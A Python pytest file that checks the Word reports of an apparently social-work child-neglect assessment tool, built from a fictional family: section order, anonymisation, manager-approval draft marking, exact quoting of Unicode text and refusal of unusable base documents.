"""The Word report, read back with python-docx: what a social worker would look for in it."""

from __future__ import annotations

import errno
import io
import os
import random
import re
import zipfile
from datetime import date
from pathlib import Path

import docx
from docx.oxml.ns import qn
import pytest

from dayinlife.analysis import Action, Analysis, ScaleRating
from dayinlife.case import (
    Adult,
    AdultRole,
    Answer,
    Case,
    Child,
    Perspective,
    PerspectiveKind,
)
from dayinlife.report import (
    SECTIONS,
    ReportError,
    ReportOptions,
    build_document,
    choose_interviews,
    default_file_name,
    export_report,
    find_child,
    report_bytes,
)
from dayinlife.report.text import clean, initials
from dayinlife.vocab import NeglectType

TODAY = date(2026, 12, 1)
SPECIAL = ("Tom & Jerry <b>said</b> \"hi\" — it's 'fine' 😀 \U0001F9D2🏽\nSecond line\n\nThird after a blank, "
           "Llŷr a ŵy, Południe żółw ł, שלום עולם, مرحبا بالعالم")

WORDS = ("we get up when the alarm goes and mum makes toast if there is bread, sometimes I make it myself "
         "and my little brother has cereal, then we walk to school past the park, it is cold in the "
         "mornings and I do not always have my coat, at night I hear shouting and I cannot sleep").split()


def sentence(rng: random.Random, n: int) -> str:
    start = rng.randrange(len(WORDS))
    words = [WORDS[(start + i) % len(WORDS)] for i in range(n)]
    return " ".join(words).capitalize() + "."


def full_case(library, seed: int = 7, earlier: bool = True) -> Case:
    """A fictional household: a child, two parents and a professional, every stage answered, with
    an earlier interview of the child for change over time, and a full analysis."""
    rng = random.Random(seed)
    case = Case("FICT-2041/B", practitioner="Alex Worker")
    mum, dad = Adult("Jo Fictional", AdultRole.MOTHER), Adult("Sam Fictional-Brook", AdultRole.FATHER)
    case.adults += [mum, dad]
    child = Child("Mia Fictional", date_of_birth=date(2017, 4, 4), pronouns="she", known_as="Mimi")
    sibling = Child("Leo Fictional", date_of_birth=date(2020, 1, 9), pronouns="he")
    case.children += [child, sibling]
    t = library.get("primary")
    feelings = t.scales["feeling"].values
    ivs = {
        "child": case.start_interview(child, Perspective(PerspectiveKind.CHILD), t, date(2026, 11, 10), place="school"),
        "mum": case.start_interview(child, Perspective(PerspectiveKind.PARENT, mum.id), t, date(2026, 11, 11),
                                    place="home", interpreter="Polish, by phone"),
        "dad": case.start_interview(child, Perspective(PerspectiveKind.PARENT, dad.id), t, date(2026, 11, 12)),
        "pro": case.start_interview(child, Perspective(PerspectiveKind.PROFESSIONAL), t, date(2026, 11, 13)),
    }
    for topic in t.topics():
        for who, iv in ivs.items():
            measures = {}
            for m in topic.measures:
                values = t.scales[m.scale].values
                measures[m.id] = values[rng.randrange(len(values))] if who != "mum" else values[0]
            a = Answer(sentence(rng, rng.randint(12, 40)), measures,
                       feeling=feelings[rng.randrange(5) if who != "mum" else 1])
            if who == "child":
                a.text = f"Mimi says: {a.text} Leo and Jo are there."
                a.better = sentence(rng, 8)
            elif who == "pro":
                a.source, a.feeling = "school attendance and nurse", None
            else:
                a.own_day, a.impact = sentence(rng, 15), sentence(rng, 12)
            iv.answers[topic.key] = a
    if earlier:
        old = case.start_interview(child, Perspective(PerspectiveKind.CHILD), t, date(2026, 8, 1))
        for topic in t.topics():
            old.answers[topic.key] = Answer("Before.", {m.id: t.scales[m.scale].values[-1] for m in topic.measures},
                                            feeling="very_unhappy")
    analysis = Analysis(child.id, [iv.id for iv in ivs.values()], practitioner="Alex Worker",
                        strengths="Mimi is warm with her brother Leo & loves drama club.\nJo asks for help.",
                        worries="Breakfast is missed on most days; Mimi gets herself up.",
                        impact_now="Mimi arrives hungry and tired; she finds it hard to concentrate.",
                        impact_if_unchanged="Her learning and health are likely to suffer.",
                        tried_before="Early help in 2024: Jo stopped after a month.",
                        capacity="Jo asks for help when Mimi's words are put to her.",
                        prognosis="Reasonable, if breakfast club lasts through the winter.")
    for n in NeglectType:
        analysis.judgement(n).narrative = f"Reading of {n.label.lower()} evidence: accounts differ; Sam agrees."
    analysis.actions += [Action("Breakfast club place", "School (Ms Patel)", date(2027, 1, 6)),
                         Action("Bedtime routine plan with Jo and Sam", "Family support worker", None)]
    analysis.ratings += [ScaleRating("Jo Fictional (mother)", 7, "Things are better than they were"),
                         ScaleRating("Social worker", 4, "Breakfast and sleep are still worries")]
    case.analyses[child.id] = analysis
    from dayinlife.chronology import Effect, Event, EventDate

    case.chronology += [
        Event(EventDate(2019, 2), "Mimi's one-year review missed; Jo said she forgot", "Health visitor",
              "Development checked four months late", Effect.HARMFUL, "Letter to Jo", [child.id],
              [NeglectType.MEDICAL]),
        Event(EventDate(2024, 9, 4), "Mimi and Leo started at breakfast club", "School", effect=Effect.GOOD,
              neglect=[NeglectType.NUTRITIONAL]),
        Event(EventDate(2025, 3), "Leo's hearing test", "Audiology", child_ids=[sibling.id]),
    ]
    return case


@pytest.fixture
def case(library):
    return full_case(library)


def docx_of(case, library, **options) -> docx.document.Document:
    data = report_bytes(case, case.children[0], library, ReportOptions(**options), today=TODAY)
    return docx.Document(io.BytesIO(data))


def all_xml(data: bytes) -> str:
    """Every XML part of the package: body, headers, footers, properties."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels")))


def body_text(doc) -> str:
    parts = [p.text for p in doc.paragraphs]
    for t in doc.tables:
        for row in t.rows:
            parts += [c.text for c in row.cells]
    return "\n".join(parts)


def headings(doc, level: int | None = None) -> list[str]:
    out = []
    for p in doc.paragraphs:
        name = p.style.name
        if name.startswith("Heading") and (level is None or name == f"Heading {level}"):
            out.append(p.text)
    return out


# ------------------------------------------------------------------ what is in it


def test_headings_present_and_in_order(case, library):
    doc = docx_of(case, library)
    assert doc.paragraphs[0].style.name == "Title" and doc.paragraphs[0].text == "A day in the life of Mia Fictional"
    assert headings(doc, 1) == [
        # first what a conference chair reads
        "Summary",
        "Strengths: what is working well",
        "Worries",
        "Impact on Mimi",
        "What needs to happen: who, what, by when",
        # then the child's own account, the practitioner's reading and the case over time
        "Mimi's typical day, in her own words",
        "The practitioner's reading by type of neglect",
        "Likelihood of change",
        "Chronology: what has happened to Mimi",
        "Mimi's family",
        "Scores from other tools",
        "Management oversight",
        # then the appendices, lettered
        "Appendices",
        "Appendix A: The parent's own day, and how it affects Mimi",
        "Appendix B: What professionals know",
        "Appendix C: Where the accounts differ",
        "Appendix D: A picture of Mimi's day",
        "Appendix E: How Mimi feels: Mimi and the adults",
        "Appendix F: Weekends, holidays and other carers",
        "Appendix G: Change over time",
        "Appendix H: The evidence by type of neglect",
        "Appendix I: Scales from 0 to 10",
    ]
    h2 = headings(doc, 2)
    assert "Breakfast (07:00–09:00)" in h2 and "In the night (21:00–06:00)" in h2  # wraps past midnight
    assert "Jo Fictional (mother), 11 November 2026" in h2
    assert [h for h in h2 if h in [n.label for n in NeglectType]] == [n.label for n in NeglectType]


def test_cover_block(case, library):
    cover = {r.cells[0].text: r.cells[1].text for r in docx_of(case, library).tables[0].rows}
    assert cover["Case reference"] == "FICT-2041/B"
    assert cover["Child"] == "Mia Fictional (known as Mimi)"
    assert cover["Age"].startswith("9 years 7 months")
    assert cover["Template"].startswith("Primary school aged")
    assert "10 November 2026: Mimi (child), at school" in cover["Interviews compared"]
    assert "Jo Fictional (mother), interpreter: Polish, by phone" in cover["Who took part"]
    assert cover["Practitioner"] == "Alex Worker"
    assert "earlier interview (set against the later one under “Appendix G: Change over time”)" in cover["Earlier interviews"]


def test_the_cover_names_who_wrote_the_analysis_when_the_case_names_nobody(library):
    case = full_case(library)
    case.practitioner = ""  # the app never asks for one on the case: the analysis's "Written by" names them
    case.analyses[case.children[0].id].practitioner = "Robin Author, social worker"
    cover = {r.cells[0].text: r.cells[1].text for r in docx_of(case, library).tables[0].rows}
    assert cover["Practitioner"] == "Robin Author, social worker"
    case.analyses[case.children[0].id].practitioner = ""
    cover = {r.cells[0].text: r.cells[1].text for r in docx_of(case, library).tables[0].rows}
    assert cover["Practitioner"] == "—"


def table_headed(doc, first: str):
    """The table whose header row starts with `first`."""
    return next(t for t in doc.tables if t.rows and t.rows[0].cells[0].text == first)


def test_comparison_table_contents(case, library):
    doc = docx_of(case, library)
    table = table_headed(doc, "Stage and what was compared")
    header = [c.text for c in table.rows[0].cells]
    pro = next(iv for iv in choose_interviews(case, case.children[0]).compared
               if iv.perspective.kind.value == "professional")
    assert header == ["Stage and what was compared", "Mimi (child)", "Jo Fictional (mother)",
                      "Sam Fictional-Brook (father)", f"Professionals, {pro.held_on:%d/%m/%Y}", "The accounts"]
    from dayinlife.compare import compare

    child = case.children[0]
    result = compare(case, child, choose_interviews(case, child).compared, library.get("primary"))
    breakfast = next(tc for tc in result.topics if tc.topic.key == "breakfast")
    often = breakfast.measures[0]
    rows = {tuple(c.text for c in r.cells)[0]: [c.text for c in r.cells] for r in table.rows}
    label = library.get("primary").render(often.measure.label, "Mimi", "she")
    row = rows[label]
    assert row[1:5] == [often.shown(v.label) if often.values.get(v.label) else "—" for v in result.voices]
    assert row[5] == often.mark  # the same words as the compare screen's
    # a difference is shown by words and by shading, never colour alone; wide ones darker
    differing = [r for r in table.rows if r.cells[-1].text.startswith("≠")]
    assert differing
    for r in differing:
        assert r.cells[0]._tc.xpath(".//w:shd/@w:fill") in (["F4B183"], ["FBE5D6"])
    assert any(p.text == result.tally().text() for p in doc.paragraphs)  # the summary counts these rows
    # stage rows, stages down the side
    assert any(r.cells[0].text == "Breakfast (07:00–09:00)" and len({id(c._tc) for c in r.cells}) == 1
               for r in table.rows)


def test_the_childs_words_quoted_exactly(case, library):
    child_iv = choose_interviews(case, case.children[0]).compared[0]
    child_iv.answers["breakfast"].text = SPECIAL
    doc = docx_of(case, library)
    quotes = [p.text for p in doc.paragraphs if p.style.name == "Quote"]
    assert f"“{SPECIAL}”" in quotes


def test_plan_ratings_and_analysis(case, library):
    doc = docx_of(case, library)
    plan = next(t for t in doc.tables if t.rows[0].cells[0].text == "What needs to happen")
    assert [c.text for c in plan.rows[1].cells] == ["Breakfast club place", "School (Ms Patel)", "6 January 2027"]
    assert [c.text for c in plan.rows[2].cells][2] == "—"
    assert not any("had a date before this report" in p.text for p in doc.paragraphs)
    ratings = next(t for t in doc.tables if t.rows[0].cells[0].text == "Who")
    assert [c.text for c in ratings.rows[2].cells] == ["Social worker", "4", "Breakfast and sleep are still worries"]
    text = body_text(doc)
    assert "Mimi is warm with her brother Leo & loves drama club.\nJo asks for help." in text
    assert "Reading of medical evidence" in text
    assert "score" not in text.lower() or "not added up" in text  # no score is produced
    assert "neglected" not in text.lower()


def test_a_plans_dates_that_have_gone_by_are_marked_and_counted(case, library):
    kid = case.children[0]
    case.analyses[kid.id].actions[0].by_when = date(2026, 11, 2)  # before the report (TODAY)
    doc = docx_of(case, library)
    plan = next(t for t in doc.tables if t.rows[0].cells[0].text == "What needs to happen")
    assert plan.rows[1].cells[2].text == "2 November 2026 (passed)"
    case.analyses[kid.id].actions[1].by_when = date(2026, 11, 30)
    said = [p.text for p in docx_of(case, library).paragraphs if "had a date before this report" in p.text]
    assert said[0].startswith("Both actions had a date before this report")
    case.analyses[kid.id].actions[1].by_when = None
    said = [p.text for p in doc.paragraphs if "had a date before this report" in p.text]
    assert said == [f"1 of the 2 actions had a date before this report ({TODAY.day} December 2026): whether each "
                    "was done is for the practitioner to bring up to date."]


def test_picture_is_a_png_with_alt_text(case, library):
    doc = docx_of(case, library)
    (shape,) = [s for s in doc.inline_shapes if s._inline.docPr.get("title") == "How Mimi feels through the day"]
    doc_pr = shape._inline.docPr
    assert doc_pr.get("title") == "How Mimi feels through the day"
    assert "Mimi (child): Getting up:" in doc_pr.get("descr")
    blob = shape._inline.graphic.graphicData.pic.blipFill.blip.embed
    assert doc.part.related_parts[blob].content_type == "image/png"


def test_the_childs_account_shows_the_pictures_the_child_chose(case, library):
    """In the child's own account each choice has the picture child mode shows with it, small, in
    the line, with the child's words as its alt text (and written beside it); the faces too. The
    adults' accounts have none: they chose words."""
    from dayinlife.paths import option_picture

    doc = docx_of(case, library)
    child_iv = choose_interviews(case, case.children[0]).compared[0]
    t = library.get("primary")
    up = child_iv.answers["getting_up"]
    routine = t.scales["routine"].option(up.measures["regular"])
    face = t.scales["feeling"].option(up.feeling)
    paragraphs = doc.paragraphs
    start = next(i for i, p in enumerate(paragraphs) if p.style.name == "Heading 2" and p.text.startswith("Getting up"))
    block = next(p for p in paragraphs[start:] if p.text.startswith("Who gets Mimi up"))
    pictures = block._p.findall(".//" + qn("wp:docPr"))
    alts = [d.get("title") for d in pictures]
    assert routine.child_label in alts and face.child_label in alts
    assert routine.child_label in block.text and face.child_label in block.text  # the words are there too
    for d in pictures:
        assert d.get("descr") == f"The picture the child chose: {d.get('title')}"
    # the picture is the one templates/scales.toml names, as a PNG drawn from it
    embedded = {doc.part.related_parts[s._inline.graphic.graphicData.pic.blipFill.blip.embed].blob
                for s in doc.inline_shapes if s._inline.docPr.get("title") == routine.child_label}
    assert embedded == {option_picture(routine.picture).with_suffix(".png").read_bytes()}
    # nothing of the sort in a parent's account
    parents = next(i for i, p in enumerate(paragraphs) if p.style.name == "Heading 1" and p.text.startswith("Appendix A: The parent"))
    after = next((i for i, p in enumerate(paragraphs) if i > parents and p.style.name == "Heading 1"), len(paragraphs))
    assert not any(p._p.findall(".//" + qn("wp:docPr")) for p in paragraphs[parents:after])


def test_change_over_time(case, library):
    doc = docx_of(case, library)
    assert "Mimi (child): 1 August 2026 and 10 November 2026" in headings(doc, 2)
    change = next(t for t in doc.tables if t.rows[0].cells[0].text == "Topic")
    said = {r.cells[-1].text for r in change.rows[1:]}
    assert {re.sub(r": \d+ steps?$", "", t) for t in said} <= {"Better", "Worse", "Changed"}
    assert any(re.search(r"^(Better|Worse): \d+ steps?$", t) for t in said)  # how far it moved


def test_answers_given_at_one_interview_only_are_a_line_not_table_rows(case, library):
    child = case.children[0]
    later = max((iv for iv in child.interviews if iv.perspective.kind is PerspectiveKind.CHILD),
                key=lambda iv: iv.held_on)
    earlier = min((iv for iv in child.interviews if iv.perspective.kind is PerspectiveKind.CHILD),
                  key=lambda iv: iv.held_on)
    key = next(k for k, a in later.answers.items() if a.measures)
    measure, value = next(iter(later.answers[key].measures.items()))
    earlier.answers.pop(key, None)  # asked only the second time
    doc = docx_of(case, library)
    change = next(t for t in doc.tables if t.rows[0].cells[0].text == "Topic")
    assert not any("only at the" in r.cells[-1].text for r in change.rows[1:])
    line = next(p.text for p in doc.paragraphs if p.text.startswith("Answered only at the later interview: "))
    title = library.get(later.template.id).topic(key).title
    assert f"{title}, " in line


def test_which_interviews_latest_of_each_person(case):
    child = case.children[0]
    choice = choose_interviews(case, child)
    kinds = [iv.perspective.kind.value for iv in choice.compared]
    assert kinds == ["child", "parent", "parent", "professional"]
    assert choice.compared[0].held_on == date(2026, 11, 10)
    assert [iv.held_on for ivs in choice.earlier.values() for iv in ivs] == [date(2026, 8, 1)]


def test_find_child_by_name_or_known_as(case):
    assert find_child(case, "mimi").name == "Mia Fictional"
    assert find_child(case, "MIA FICTIONAL").name == "Mia Fictional"
    assert find_child(case, "leo").name == "Leo Fictional"
    assert find_child(case, " Mia ").name == "Mia Fictional"  # first name
    with pytest.raises(ReportError, match="No child called 'Zed'"):
        find_child(case, "Zed")


def test_a_child_without_interviews_is_refused(case, library):
    with pytest.raises(ReportError, match="no interviews"):
        report_bytes(case, case.children[1], library)


# ------------------------------------------------------------------ options


DRAFT = "DRAFT: not yet approved by a manager"


def test_marking_in_the_header(case, library):
    doc = docx_of(case, library)
    assert doc.sections[0].header.paragraphs[0].text == f"{DRAFT} — OFFICIAL-SENSITIVE"
    doc = docx_of(case, library, marking="OFFICIAL")
    assert doc.sections[0].header.paragraphs[0].text == f"{DRAFT} — OFFICIAL"
    doc = docx_of(case, library, marking="")
    assert "OFFICIAL" not in "".join(p.text for p in doc.sections[0].header.paragraphs)
    assert doc.sections[0].header.paragraphs[0].text == DRAFT     # no marking chosen: still a draft


def approve(case, reviewer="Pat Manager, team manager"):
    from datetime import datetime, timezone

    from dayinlife.oversight import Outcome, Review, Version

    a = case.analyses[case.children[0].id]
    a.versions.append(Version(len(a.versions) + 1, datetime(2026, 11, 20, 9, tzinfo=timezone.utc), a.practitioner,
                              a.content(), f"v{len(a.versions) + 1}"))
    a.reviews.append(Review(a.versions[-1].number, reviewer, datetime(2026, 11, 21, 15, tzinfo=timezone.utc),
                            Outcome.APPROVED, "Clear; the child's words lead it.", f"r{len(a.reviews) + 1}"))
    return a


def test_draft_on_every_page_until_a_manager_approves_the_analysis_as_it_stands(case, library, tmp_path):
    doc = docx_of(case, library, sections=["oversight"])
    assert headings(doc, 1) == ["Management oversight"]
    assert "A draft: no version has been submitted for a manager's review yet. Until a manager approves it, every page " \
        "says DRAFT." in body_text(doc)
    a = approve(case)
    doc = docx_of(case, library)
    headers = [p.text for s in doc.sections for p in s.header.paragraphs if p.text]
    assert headers and all(h == "OFFICIAL-SENSITIVE" for h in headers)
    assert "DRAFT" not in body_text(doc)
    rows = [[c.text for c in r.cells] for r in docx_of(case, library, sections=["oversight"]).tables[-1].rows]
    assert rows[1][1:] == ["Version 1 submitted for review", "Alex Worker", "—"]
    assert rows[2][1:] == ["Review of version 1: approved", "Pat Manager, team manager",
                           "Clear; the child's words lead it."]
    a.worries += " And another."                                  # changed after approval: a draft again
    doc = docx_of(case, library, sections=["oversight", "worries"])
    assert doc.sections[0].header.paragraphs[0].text.startswith(DRAFT)
    assert "has changed since version 1 was approved" in body_text(doc)
    anon = docx_of(case, library, sections=["oversight"], anonymise=True)
    assert "Pat" not in body_text(anon) and "Practitioner B" in body_text(anon)


NAMES = ["Mia", "Mimi", "Fictional", "Jo", "Sam", "Brook", "Leo", "Alex", "Alex Worker", "FICT-2041/B"]


def test_anonymised_has_no_names_anywhere(case, library, tmp_path):
    path = export_report(case, case.children[0], tmp_path, library, ReportOptions(anonymise=True), today=TODAY)
    data = path.read_bytes()
    xml = all_xml(data)
    for name in NAMES:
        assert not re.search(rf"(?<!\w){re.escape(name)}(?!\w)", xml, re.IGNORECASE), name
        assert name.lower() not in path.name.lower()
    doc = docx.Document(io.BytesIO(data))
    assert doc.paragraphs[0].text == "A day in the life of Child A"
    assert "Adult A (mother)" in [c.text for c in table_headed(doc, "Stage and what was compared").rows[0].cells]
    assert "Adult B (father)" in [c.text for c in table_headed(doc, "Stage and what was compared").rows[0].cells]
    assert "Child A says:" in body_text(doc) and "Child B and Adult A are there." in body_text(doc)
    assert "Social worker" in body_text(doc)  # a job, not the practitioner's surname
    assert doc.core_properties.author == "Day in My Life"
    # the picture's legend is drawn from the same labels
    chart = next(s for s in doc.inline_shapes if s._inline.docPr.get("title") == "How Child A feels through the day")
    assert "Child A (child):" in chart._inline.docPr.get("descr")


def test_the_chronology_is_the_childs_with_a_timeline_and_the_assessment_in_it(case, library):
    doc = docx_of(case, library, sections=["chronology"])
    assert headings(doc, 1) == ["Chronology: what has happened to Mimi"]
    table = doc.tables[-1]
    rows = [[c.text for c in r.cells] for r in table.rows]
    assert rows[0] == ["Date", "What happened, and where it comes from", "Impact on Mimi", "Bears on"]
    assert rows[1] == ["February 2019", "Mimi's one-year review missed; Jo said she forgot (Health visitor) "
                       "Action taken: Letter to Jo", "Harmful. Development checked four months late", "Medical"]
    assert rows[2][:3] == ["04/09/2024", "Whole family: Mimi and Leo started at breakfast club (School)", "Good."]
    assert "Leo's hearing test" not in body_text(doc)                      # his alone: not in Mimi's
    held = [r[1] for r in rows if r[1].startswith("Day in the life interview with Mimi")]
    assert held == ["Day in the life interview with Mimi (held by Alex Worker)"] * 2   # August and November
    assert rows[-1][1] == "Analysis of Mimi's day, last saved (written by Alex Worker)" or \
        not case.analyses[case.children[0].id].updated
    assert "2 events recorded for Mimi or the whole family, from February 2019 to 04/09/2024, with this " \
           "assessment's interviews among them" in body_text(doc)
    assert "harmful to Mimi" not in body_text(doc)  # no tally: the pattern is weighed in the analysis
    (chart,) = doc.inline_shapes
    assert chart._inline.docPr.get("title") == "Mimi's chronology: events by the type of neglect they bear on"
    described = chart._inline.docPr.get("descr")
    assert "Medical: 1 harmful to the child." in described and "Nutritional: 1 good for the child." in described
    from PIL import Image

    blob = chart._inline.graphic.graphicData.pic.blipFill.blip.embed
    png = doc.part.related_parts[blob].blob
    assert Image.open(io.BytesIO(png)).size[0] == 2000


def test_the_likelihood_of_change_is_the_practitioners_own_words(case, library):
    doc = docx_of(case, library, sections=["likelihood"])
    assert headings(doc, 2) == ["What has been tried before, and what happened", "The family's capacity to change",
                                "The prognosis for change"]
    text = body_text(doc)
    assert "Early help in 2024: Jo stopped after a month." in text and "nothing here is scored" in text
    case.analyses[case.children[0].id].capacity = ""
    assert "Not written yet." in body_text(docx_of(case, library, sections=["likelihood"]))


def test_scores_from_other_tools_side_by_side_over_time(case, library):
    from dayinlife.scores import Score, ScoreSet

    mimi, leo = case.children
    case.scores += [
        ScoreSet("gcp2", date(2026, 11, 20), [Score("physical", 2), Score("love", 1)], by="Alex Worker, with Jo",
                 child_ids=[mimi.id], notes="Jo scored physical care with me."),
        ScoreSet("gcp2", date(2026, 5, 2), [Score("physical", 4), Score("safety", 3)], by="Alex Worker",
                 child_ids=[mimi.id]),
        ScoreSet("sdq", date(2026, 6, 1), [Score("total", 17)], informant="teacher", by="School", child_ids=[leo.id]),
    ]
    doc = docx_of(case, library, sections=["scores"])
    assert headings(doc, 2) == ["Graded Care Profile 2 (GCP2)"]            # Leo's SDQ is not in Mimi's
    assert "Scores from 1 to 5: 1 is the best care, 5 the poorest." in body_text(doc)
    rows = [[c.text for c in r.cells] for r in doc.tables[-1].rows]
    assert rows == [["Area", "2 May 2026", "20 November 2026"], ["Physical care", "4", "2"],
                    ["Care of safety", "3", "—"], ["Emotional care: love and belonging", "—", "1"]]
    assert "20 November 2026: scored by Alex Worker, with Jo. Jo scored physical care with me." in body_text(doc)
    anon = docx_of(case, library, sections=["scores"], anonymise=True)
    assert "Jo" not in body_text(anon) and "Alex" not in body_text(anon)
    case.scores = []
    assert "No scores from other tools" in body_text(docx_of(case, library, sections=["scores"]))


def test_a_disclosure_is_in_the_chronology_only_in_the_copy_for_professionals(case, library):
    from dayinlife.case import Disclosure

    child_iv = case.children[0].interviews[0]
    child_iv.disclosures.append(Disclosure("He hits me when Mum is out", "Who is there at night?"))
    for sensitive, shown in ((False, False), (True, True)):
        doc = docx_of(case, library, sections=["chronology"], sensitive=sensitive)
        chronology = next(t for t in doc.tables if t.rows[0].cells[0].text == "Date")
        text = "\n".join(c.text for r in chronology.rows for c in r.cells)
        assert ("Something was disclosed in the day in the life interview" in text) is shown
        assert "He hits me" not in text   # never the words in the chronology, even for professionals


def test_the_genogram_draws_the_wider_family_and_anonymised_names_people_by_role(case, library):
    from dayinlife.family import Bond, Details, Family, Gender, Link, Relative, Role

    mum, dad = case.adults
    mimi, leo = case.children
    nan = Relative("Rosalind Quarry", Role.GRANDPARENT, Gender.FEMALE, 1960, where="Nearby; Mimi stays Fridays")
    case.family = Family([nan], [Link(nan.id, mum.id, Bond.PARENT), Link(mum.id, dad.id, Bond.MARRIED)],
                         {mum.id: Details(Gender.FEMALE, 1990), dad.id: Details(Gender.MALE, 1988),
                          mimi.id: Details(Gender.FEMALE), leo.id: Details(Gender.MALE)},
                         {mum.id: "Jo was looked after by Rosalind and an aunt."}, "Jo and Sam married in 2016.")
    doc = docx_of(case, library, sections=["genogram"])
    assert headings(doc) == ["Mimi's family", "Family history", "The parents' own childhood"]
    (chart,) = doc.inline_shapes
    described = chart._inline.docPr.get("descr")
    assert "In the household: Jo Fictional, Sam Fictional-Brook, Mimi, Leo." in described
    assert "Rosalind Quarry is a parent of Jo Fictional." in described and "married" in described
    assert [c.text for c in doc.tables[-1].rows[1].cells][:3] == ["Rosalind Quarry", "Grandparent",
                                                                  "Nearby; Mimi stays Fridays"]
    assert "Jo Fictional: Jo was looked after by Rosalind and an aunt." in body_text(doc)
    # a parent who lives elsewhere, of one of the two children: the table says whose
    ray = Relative("Ray Fictional", Role.PARENT, Gender.MALE, 1985)
    case.family.relatives.append(ray)
    case.family.links.append(Link(ray.id, leo.id, Bond.PARENT))
    with_ray = docx_of(case, library, sections=["genogram"])
    rows = [[c.text for c in r.cells] for r in with_ray.tables[-1].rows]
    assert rows[2][:2] == ["Ray Fictional", "Parent of Leo"]
    # Leo's father recorded elsewhere never takes Leo from the mother he lives with (he hung from Ray alone)
    described = with_ray.inline_shapes[0]._inline.docPr.get("descr")
    assert "Ray Fictional is a parent of Leo." in described and "Jo Fictional is a parent of Leo." in described
    anon = docx_of(case, library, sections=["genogram"], anonymise=True)
    text = body_text(anon) + anon.inline_shapes[0]._inline.docPr.get("descr")
    for name in ("Rosalind", "Quarry", "Jo", "Mimi", "Leo", "Sam"):
        assert not re.search(rf"(?<!\w){name}(?!\w)", text), name
    assert "In the household: Mother, Father, Child A, Child B." in text


def test_a_chronology_with_no_events_says_how_one_is_kept(case, library):
    case.chronology = []
    doc = docx_of(case, library, sections=["chronology"])
    assert "No events are recorded in the chronology for Mimi yet" in body_text(doc) and not doc.inline_shapes
    assert len(doc.tables[-1].rows) > 1  # this assessment's interviews still are


def test_section_choice(case, library):
    doc = docx_of(case, library, sections=["comparison", "plan"])
    assert headings(doc, 1) == ["What needs to happen: who, what, by when", "Appendices",
                                "Appendix A: Where the accounts differ"]
    assert not doc.inline_shapes
    with pytest.raises(ReportError, match="Unknown report section"):
        ReportOptions(sections=["cover", "gossip"])
    assert list(SECTIONS)[0] == "cover"


def test_default_file_name():
    assert default_file_name("FICT/2041 B", "Siobhán O'Neill-Ward", TODAY, anonymised=True) == "DIML-20261201-anon.docx"
    name = default_file_name("FICT/2041 B: long reference " + "x" * 80, "Siobhán O'Neill-Ward", TODAY)
    assert len(name) < 60 and name.startswith("DIML-FICT-2041-B-long") and name.endswith("-SO-20261201.docx")
    assert re.fullmatch(r"[A-Za-z0-9-]+\.docx", name)
    assert default_file_name("", "Łucja", TODAY) == "DIML-case-L-20261201.docx"
    assert default_file_name("R1", "محمد", TODAY) == "DIML-R1-X-20261201.docx"


# ------------------------------------------------------------------ an organisation's base document


def org_base(path: Path, *, styles: bool = True) -> Path:
    doc = docx.Document()
    header = doc.sections[0].header
    header.paragraphs[0].text = "Anyshire Council Children's Services"
    doc.sections[0].footer.paragraphs[0].text = "Anyshire footer: Protecting children together"
    doc.add_paragraph("Placeholder body text that should not be kept")
    h1 = doc.styles["Heading 1"]
    h1.font.name = "Georgia"
    h1.font.size = docx.shared.Pt(20)
    if not styles:
        for name in ("Heading 2", "Heading 3"):
            el = doc.styles[name].element
            el.getparent().remove(el)
    doc.save(path)
    return path


def test_base_document_styles_header_footer_survive(case, library, tmp_path):
    base = org_base(tmp_path / "org.docx")
    doc = docx_of(case, library, base_document=base)
    header = [p.text for p in doc.sections[0].header.paragraphs]
    assert header[0] == f"{DRAFT} — OFFICIAL-SENSITIVE" and "Anyshire Council Children's Services" in header
    assert doc.sections[0].footer.paragraphs[0].text == "Anyshire footer: Protecting children together"
    assert doc.styles["Heading 1"].font.name == "Georgia" and doc.styles["Heading 1"].font.size.pt == 20
    assert "Placeholder body text" not in body_text(doc)
    assert headings(doc, 1)[0] == "Summary"


def test_base_document_without_table_styles_falls_back(case, library, tmp_path):
    base = docx.Document()
    for style in list(base.styles):
        if style.type == 3 and style.name != "Normal Table":  # tables
            style.element.getparent().remove(style.element)
    base.save(tmp_path / "lo.docx")
    doc = docx_of(case, library, base_document=tmp_path / "lo.docx")
    assert doc.tables[1]._tbl.xpath("./w:tblPr/w:tblBorders")


def test_word_template_dotx_is_accepted(case, library, tmp_path):
    base = org_base(tmp_path / "org.docx")
    data = io.BytesIO()
    with zipfile.ZipFile(base) as z, zipfile.ZipFile(data, "w") as w:
        for item in z.infolist():
            body = z.read(item.filename)
            if item.filename == "[Content_Types].xml":
                body = body.replace(b"document.main+xml", b"template.main+xml")
            w.writestr(item, body)
    (tmp_path / "org.dotx").write_bytes(data.getvalue())
    doc = docx_of(case, library, base_document=tmp_path / "org.dotx")
    assert "Anyshire Council Children's Services" in [p.text for p in doc.sections[0].header.paragraphs]


@pytest.mark.parametrize("make, reason", [
    (lambda p: p.write_text("just some words"), "not a Word document"),
    (lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600), "password-protected"),
    (lambda p: p.write_bytes(b"PK\x03\x04" + os.urandom(300)), "damaged"),
    (lambda p: zipfile.ZipFile(p, "w").writestr("xl/workbook.xml", "<x/>"), "not a Word document"),
    (lambda p: org_base(p, styles=False), "no Heading 2, Heading 3 style"),
    (lambda p: None, "cannot be found"),
])
def test_a_base_document_that_cannot_be_used_is_refused(case, library, tmp_path, make, reason):
    path = tmp_path / "org.docx"
    make(path)
    with pytest.raises(ReportError, match=reason) as exc:
        docx_of(case, library, base_document=path)
    assert "org.docx" in str(exc.value)


# ------------------------------------------------------------------ exactly as typed


def test_special_text_comes_out_exactly(case, library, tmp_path):
    child_iv, mum_iv = choose_interviews(case, case.children[0]).compared[:2]
    child_iv.answers["breakfast"].text = SPECIAL
    mum_iv.answers["bedtime"].own_day = SPECIAL
    case.analyses[case.children[0].id].strengths = SPECIAL
    case.analyses[case.children[0].id].actions[0].what = SPECIAL
    path = export_report(case, case.children[0], tmp_path / "r.docx", library, today=TODAY)
    doc = docx.Document(path)
    text = body_text(doc)
    assert text.count(SPECIAL) >= 4  # quote, parent's own day, strengths, the plan table
    # right-to-left pieces are marked, left-to-right ones are not
    para = next(p for p in doc.paragraphs if p.text == f"“{SPECIAL}”")
    rtl = [r.text for r in para.runs if r.font.rtl]
    assert rtl == ["שלום עולם, مرحبا بالعالم"]
    assert not any(r.font.rtl for r in para.runs if "Llŷr" in r.text)


